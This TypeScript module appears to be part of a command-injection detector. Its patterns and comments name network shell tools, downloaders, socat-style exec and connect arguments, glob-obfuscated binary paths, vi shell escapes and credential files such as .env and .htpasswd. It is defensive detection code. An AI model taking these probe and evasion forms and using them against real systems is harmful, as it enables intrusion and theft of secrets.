/** Editors that run ex commands from their arguments. */
const EX_EDITORS = new Set(['vi', 'vim', 'ex', 'view', 'nvim', 'rvim', 'gvim', 'vimdiff']);
/** An ex command that runs a shell: `!cmd`, also after `:` and `silent` (`+silent !whoami`, `-c ':!id'`). */
const EX_SHELL = /^\s*(?::\s*)?(?:sil(?:ent)?!?\s+)?!\s*[\w/$]/;
function exRunsShell(args: readonly string[]): boolean {
  for (let i = 0; i < args.length; i++) {
    const a = args[i];
    if (a.startsWith('+') && EX_SHELL.test(a.slice(1))) return true;
    if (a.startsWith('-c') && EX_SHELL.test(a.length > 2 ? a.slice(2) : (args[i + 1] ?? ''))) return true;
  }
  return false;
}

/**
 * The word without the separators and blanks that end it. A loop from the end, not `/[;&|\s]+$/`:
 * that regex retries from every position of a long run of separators (quadratic; regex-safety test).
 */
function withoutTrailingSeparators(word: string): string {
  let end = word.length;
  while (end > 0 && /[;&|\s]/.test(word[end - 1])) end--;
  return word.slice(0, end);
}

/** A quoted word that is itself a command line: a known program and an argument a command line has. */
function quotedCommandLine(word: string): boolean {
  if (word.length > MAX_PLAIN_COMMAND || !/\s/.test(word)) return false;
  const line = withoutTrailingSeparators(word);
  if (knownCommandLine(line)) return true;
  const m = COMMAND_LINE.exec(line);
  return m !== null && STRONG_SET.has(baseName(m[1])) && m[1] === baseName(m[1]) && shellArgument(line.slice(m[0].length));
}

/** A glob written for a program's path (`/bin/ca?`, `/???/??t`, `/usr/bin/[u]name`): the known command it matches. */
function globCommand(word: string): string | null {
  if (!word.startsWith('/') || word.length > 40) return null;
  const re = globRegExp(word);
  for (const dir of BIN_DIRS) for (const cmd of GLOB_TARGETS) if (re.test(dir + cmd)) return dir + cmd;
  return null;
}

/** The glob as a regular expression; a `[` without its `]` is a literal character, as bash reads it (`//*[`). */
function globRegExp(word: string): RegExp {
  const special = word.replace(/[.+^$(){}|\\]/g, '\\$&');
  const pattern = (w: string): string => '^' + w.replace(/\?/g, '.').replace(/\*/g, '[^/]*').replace(/\[!/g, '[^') + '$';
  try {
    return new RegExp(pattern(special));
  } catch {
    return new RegExp(pattern(special.replace(/[[\]]/g, '\\$&')));
  }
}

/** Programs attackers reach by glob: shells, downloaders, readers of files, probes. */
const GLOB_TARGETS = [
  'sh',
  'bash',
  'dash',
  'cat',
  'nc',
  'ncat',
  'wget',
  'curl',
  'id',
  'whoami',
  'uname',
  'ls',
  'python',
  'perl',
  'php',
  'echo',
  'ping',
  'sleep',
  'head',
  'tail',
  'more',
  'less',
  'base64',
  'busybox',
];

/**
 * The span is the value, or sits against shell syntax (`;`, `|`, `=`, quotes...), or the value is
 * short and no word of prose comes before it. A short sentence naming a program as Markdown's
 * inline code (``use `ls` to list files``) has a word that is no command, then blanks, before the
 * span and text after it (branch i18-rce5); `` echo `id` x `` has a command before it.
 */
const WORD_BEFORE = /([A-Za-z]{1,30})\s+$/;
function embedded(v: string, start: number, end: number): boolean {
  let b = start - 1;
  while (b >= 0 && /\s/.test(v[b])) b--;
  let a = end;
  while (a < v.length && /\s/.test(v[a])) a++;
  if (b < 0 || a >= v.length || ';|&$\'"=('.includes(v[b]) || ';|&\'")'.includes(v[a])) return true;
  if (v.length > 64) return false;
  const before = WORD_BEFORE.exec(v.slice(Math.max(0, start - 32), start))?.[1];
  return before === undefined || STRONG_SET.has(before) || WEAK_SET.has(before);
}

/**
 * `at` takes a time (`now + 1 minute`, `23:00`, `-f job`); a stack trace's frame line is `at` and
 * a qualified method name (`\tat com.acme.OrderDao.find(OrderDao.java:57)`, Java 9's module
 * before it, `java.base/java.lang.Thread.run`, .NET's `at System.Web.Mvc...`), which no time is
 * (docs/detection.md, branch i18-fpr3).
 */
const STACK_FRAME_NAME = /^(?:[\w.@$-]{1,100}\/{1,2})?[A-Za-z_$][\w$]*(?:\.[\w$<>]+){2,}/;
function isStackFrame(cmd: string, arg: string): boolean {
  return cmd === 'at' && STACK_FRAME_NAME.test(arg);
}

/** What may follow a word-command: nothing for a probe (`;id`), a number for `sleep 5`, or a shell argument. */
function commandArgument(cmd: string, arg: string): boolean {
  if (arg === '') return ALONE.has(cmd);
  if (isStackFrame(cmd, arg)) return false;
  // Windows `net user`, `net localgroup administrators`...
  if (cmd === 'net') return /^(?:user|localgroup|group|view|share|use|accounts|session|start|stop)\b/i.test(arg);
  // A number, also with a comment glued to it (`;sleep 5#`, which ends the application's line).
  return shellArgument(arg) || (NUMERIC_ARGUMENT.has(cmd) && /^\d+(?:#.*)?$/.test(arg));
}

/** An argument a command line has and prose does not: a flag, a path, a redirection, `$`. */
function shellArgument(arg: string): boolean {
  return /^(?:-{1,2}[a-z]|\/[a-z]|[a-z]:(?:[\\/]|\s|$)|~|\.{1,2}\/|\$|>|<|\d+(?:\.\d+){3}|\S*\/\S*|[\w.-]+\.[a-z]{2,4}(?:\s|$)|%[a-z]+%)/i.test(
    arg,
  );
}

/**
 * A file a command is pointed at to read secrets or the system: a path under a system directory,
 * the home directory, a Windows drive, a hidden file of the working directory (`.env`,
 * `.htpasswd`), a .NET configuration (`web.config`).
 */
const SYSTEM_FILE =
  /^(?:\/(?:etc|proc|root|home|var|usr|bin|sbin|tmp|dev|sys|opt|boot)\/\S|~\/|[a-z]:\\|\.[a-z][\w.-]{1,30}$|[\w-]{1,30}\.config$)/i;

/**
 * Tool suites whose programs share their suite's name as a prefix (`ansible-pull`,
 * `docker-compose`, `chef-client`): the tool is the suite's program. Only read by
 * programArguments, which wants an argument shaped as a command line's besides, so hyphenated
 * prose ("chef-owned") stays text. Not `ssh-`: `ssh-ed25519 AAAA... user@host` is a public key.
 */
const SUITE_PREFIX = /^(?:ansible|docker|kubectl|msf|mysql|openssl|sqlite3|nmap|tshark|chef)-[a-z][a-z0-9-]{1,20}$/;

/** A program that is no English word (`cscli`, `python3.10`) or a tool of a suite named by its prefix (`ansible-vault`). */
export function isProgramName(word: string): boolean {
  return STRONG_SET.has(baseName(word)) || SUITE_PREFIX.test(word);
}

/** Package managers: their subcommand lines (`npm install ...`) are what documentation shows. */
const PACKAGE_MANAGERS = new Set([
  'npm',
  'npx',
  'pip',
  'pip3',
  'pipx',
  'gem',
  'apt',
  'apt-get',
  'aptitude',
  'yum',
  'dnf',
  'rpm',
  'dpkg',
]);

/** A package manager's subcommand line (`npm install --save x`, `pip install -r requirements.txt`): the install line of every README. */
export function isPackageLine(word: string, args: readonly string[]): boolean {
  return PACKAGE_MANAGERS.has(baseName(word)) && /^[a-z]/.test(args[0] ?? '');
}

/** A script, configuration, archive, key or binary file named as an argument (`site.yml`, `x.sh`, `dump.sql.gz`). */
const FILE_ARGUMENT =
  /^[\w.-]{0,60}[a-z_]\.(?:sh|bash|py|pl|rb|php|js|lua|ps1|bat|cmd|exe|dll|so|bin|elf|ya?ml|json|toml|conf|cfg|ini|xml|env|sql|db|sqlite|gz|tgz|tar|zip|bz2|xz|zst|7z|rar|jar|war|deb|rpm|pem|key|crt|pub|log)$/i;

/**
 * Arguments only a command line has, one of them enough: an option (`-m`, `--url`, `-t`), a path
 * (`/`, `x/y`), a script or configuration file (`site.yml`), an address (`1.1.1.1`, `user@host`,
 * `host:22`), a URL. Bare words alone are a search phrase ("nmap tutorial", "pip install
 * requests"); a word closed by prose punctuation is a sentence.
 */
const ARGUMENT_SHAPE =
  /^(?:--?[a-z][\w-]{0,30}(?:=\S{1,100})?|\.{0,2}\/\S{0,200}|[\w.-]{1,60}\/\S{1,200}|\d{1,3}(?:\.\d{1,3}){3}(?::\d{1,5})?|[\w.-]{1,64}@[\w.-]{1,255}|[a-z][\w.-]{0,63}:\d{1,5}|[a-z][a-z0-9+.-]{1,10}:\/\/\S{1,200}|(?:exec|system|tcp[46]?|udp[46]?|(?:tcp|udp|openssl|unix)-(?:connect|listen)|openssl|pty|stdio):\S{0,200})$/i;
/** A relative path `x/y` of ARGUMENT_SHAPE, which prose writes too (`and/or`, `3/4`). */
const RELATIVE_PATH = /^(?!\.{1,2}\/)[\w.-]{1,60}\/\S{1,200}$/;
const PROSE_WORD = /[.,;:?!)]$|^[(]|^[A-Z][a-z]{2,}$/;
/** Base64 of a key or a token (`AAAAC3NzaC1lZDI1NTE5...`): data, not an argument typed on a command line. */
const BLOB = /^[A-Za-z0-9+/]{40,}={0,2}$/;

/**
 * A command line at the start of a value with no shell character at all (docs/detection.md,
 * "The rce language round, third session"): a program that is no word of prose, lower-case, then
 * at most four arguments (a probe is short; the long lines of a snippet or a guide, `docker run -d
 * -p 8080:80 --name web nginx:latest`, are documentation), one of them shaped as only command
 * lines write them (ARGUMENT_SHAPE, FILE_ARGUMENT), none a word of a sentence or a key's blob.
 */
export function programArguments(word: string, args: readonly string[], absolutePaths = false): boolean {
  if (args.length === 0 || args.length > 4 || word !== word.toLowerCase()) return false;
  if (!isProgramName(word) || isPackageLine(word, args)) return false;
  let shaped = false;
  for (const a of args) {
    if (a.length > 200 || BLOB.test(a) || (PROSE_WORD.test(a) && !FILE_ARGUMENT.test(a))) return false;
    if (!shaped && ((ARGUMENT_SHAPE.test(a) && !(absolutePaths && RELATIVE_PATH.test(a))) || FILE_ARGUMENT.test(a)))
      shaped = true;
  }
  return shaped;
}

/**
 * The value as one command line of programArguments (split on blanks): values without shell
 * characters. The first word is looked up before the value is split, so prose costs a lookup.
 */
const FIRST_WORD = /^\s*([a-z][\w.+-]{1,30})\s/;
export function programLine(value: string, absolutePaths = false): boolean {
  if (value.length > MAX_PLAIN_COMMAND) return false;
  const first = FIRST_WORD.exec(value)?.[1];
  if (first === undefined || !isProgramName(first)) return false;
  const words = value.trim().split(/\s+/);
  return programArguments(words[0], words.slice(1), absolutePaths);
}

/**
 * What a shown script's own step is given (docs/detection.md, branch i18-rce5): an option, digits
 * included (`-9`, `-la`, `--all`), or a count, a time unit glued on (`1`, `0.5`, `5s`).
 */
const SCRIPT_STEP_ARGUMENT = /^(?:--?[a-z0-9][a-z0-9-]{0,20}|\d{1,6}(?:\.\d{1,3})?[smhd]?)$/i;

/** One or more options and nothing else (`-la`, `-n -s`, `--all`). */
function optionsOnly(args: readonly string[]): boolean {
  if (args.length === 0) return false;
  for (const a of args) if (!/^--?[a-z][a-z-]{0,20}$/i.test(a)) return false;
  return true;
}

/** A program's name with a version glued to it (`python3.10`, `gcc7.4`, `php8.1`, `gcc-12`), as distributions install them. */
const VERSIONED = /^([a-z][a-z+]{1,10}?)-?\d{1,2}(?:\.\d{1,2}){0,2}$/;

function baseName(cmd: string): string {
  const name = cmd.toLowerCase().replace(/\.exe$/, '');
  if (STRONG_SET.has(name) || WEAK_SET.has(name)) return name;
  const m = VERSIONED.exec(name);
  return m !== null && STRONG_SET.has(m[1]) ? m[1] : name;
}
